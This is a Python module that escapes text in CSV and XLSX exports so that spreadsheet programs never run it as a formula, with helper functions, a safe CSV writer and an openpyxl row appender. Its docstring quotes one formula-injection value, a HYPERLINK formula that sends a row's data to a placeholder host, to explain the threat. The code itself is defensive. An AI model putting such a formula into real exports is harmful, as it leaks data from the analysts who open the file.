"""One escaping rule for every CSV and XLSX export: text is never read back as a formula.

A spreadsheet program runs a cell that starts with `=`, `+`, `-` or `@` (and, in some, a tab or carriage
return before them) as a formula: a traveller named `=HYPERLINK("http://x/?"&A1,"open")` would leak the
row or run commands on the analyst's machine (CSV/formula injection, OWASP). In CSV such text gets a
leading apostrophe, which spreadsheets show as text; in XLSX it is written as a string cell, never a
formula. Numbers, dates and empty cells pass unchanged.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def is_formula_like(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(value: Any) -> Any:
    """The value as it may go into a CSV cell."""
    return "'" + value if is_formula_like(value) else value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_cell(v) for v in values]


class SafeWriter:
    """csv.writer whose every row goes through csv_row."""

    def __init__(self, stream: Any, **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(csv_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def xlsx_append(sheet: Any, values: Iterable[Any]) -> None:
    """Append a row to an openpyxl sheet; formula-like text becomes a plain string cell."""
    values = list(values)
    sheet.append([None if is_formula_like(v) else v for v in values])
    row = sheet.max_row
    for column, value in enumerate(values, start=1):
        if is_formula_like(value):
            cell = sheet.cell(row=row, column=column)
            cell.value = value
            cell.data_type = "s"
